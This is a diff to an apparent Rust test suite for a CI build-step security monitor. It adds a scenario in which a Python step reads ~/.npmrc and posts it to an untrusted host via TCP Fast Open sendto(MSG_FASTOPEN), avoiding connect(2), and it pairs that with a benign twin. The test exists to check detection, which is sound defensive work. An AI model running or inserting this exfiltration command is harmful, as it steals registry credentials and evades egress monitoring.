@@ -418,7 +418,32 @@ echo 'app()' > \"$GITHUB_WORKSPACE/dist/index.js\"
                 &[("build", &udp_send("REGISTRY", "b'raw!'"))],
             ),
         },
+        Scenario {
+            name: "fast-open-exfiltration",
+            threat: "exfiltration that never calls connect(2) on TCP: TCP Fast Open's sendto(MSG_FASTOPEN) opens the connection and carries ~/.npmrc in one call",
+            needs: &["python3"],
+            kills_agent: false,
+            responses: false,
+            expect: &["credential-read .npmrc", "unexpected-egress"],
+            attack: job(
+                "a step posts ~/.npmrc to the untrusted host with sendto(MSG_FASTOPEN) on a fresh TCP socket",
+                &[("build", &fast_open_post("UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
+            ),
+            twin: job(
+                "a step posts a few bytes to the allowed registry host the same way",
+                &[("build", &fast_open_post("REGISTRY", "b'ping'"))],
+            ),
+        },
     ]
+}
+
+/// A step that posts `body` (a Python expression giving bytes) over HTTP to the host and port
+/// of the URL in variable `url_var` with one `sendto(MSG_FASTOPEN)` on a fresh blocking TCP
+/// socket (no `connect`), then reads the reply.
+fn fast_open_post(url_var: &str, body: &str) -> String {
+    format!(
+        "python3 -c \"import os, socket, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nb = {body}\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.sendto(b'POST /x HTTP/1.1\\r\\nHost: h\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(b) + b, socket.MSG_FASTOPEN, (p.hostname, p.port))\nprint(s.recv(64)[:12])\"\n"
+    )
 }
 
 /// A step that sends 127.0.0.1:53 one DNS question for `<label>.<zone>` (`label`: a Python
